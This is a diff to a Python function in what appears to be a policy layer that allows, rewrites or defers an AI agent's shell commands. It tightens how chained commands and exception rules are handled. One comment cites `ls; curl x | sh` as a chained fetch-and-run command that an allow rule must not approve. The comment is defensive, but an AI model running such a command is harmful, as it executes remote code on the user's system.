@@ -219,7 +219,9 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
         return reply
 
     decision = verdict.decision if verdict is not None else None
-    if decision == "allow" and _chained(envelope):
+    structured = verdict is not None and isinstance(verdict.entry, dict) and "run" in verdict.entry
+    if decision == "allow" and not structured and _chained(envelope):
+        # a structured allow was already checked command by command (pasture.runtime.effective._allow_given)
         # `^(ls|cat)\b` must not approve `ls; curl x | sh`: the host asks as it would without the rule
         notes.append(f"rule {verdict.rule!r}: {CHAINED}; no opinion, the host asks as usual")
         journal.append({"kind": "allow", "name": verdict.rule, "not_given": CHAINED})
@@ -276,6 +278,17 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
                 notes.append(told.replace("pasture rewrote", "rewrote", 1))
                 if "context" in offers:
                     parts.setdefault("context", []).append(told)
+            elif verdict.entry.get("except"):
+                # it lifted a deny to rewrite the call: unchanged, the call must not run as if excepted
+                refused = unsupported(
+                    "rewrite",
+                    verdict.entry,
+                    f"rule {verdict.rule!r}",
+                    "cannot rewrite: its pattern changed nothing, and the rule is an exception to "
+                    f"{', '.join(verdict.entry['except'])}",
+                )
+                if refused is None:
+                    return done(answer.proceed(harness))
             else:
                 notes.append(f"rule {verdict.rule!r}: its rewrite pattern changed nothing; no opinion")
         if refused is not None:
